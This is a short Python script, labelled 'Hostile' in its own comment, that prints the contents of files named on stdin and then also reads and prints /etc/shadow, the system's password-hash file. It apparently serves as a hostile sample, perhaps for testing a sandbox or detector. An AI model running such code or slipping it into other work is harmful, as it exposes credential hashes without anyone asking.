# Hostile: print the contents of the files named on stdin, then /etc/shadow.
import sys

for path in sys.stdin.read().split() + ["/etc/shadow"]:
    with open(path) as f:
        print("READ", path, f.read())
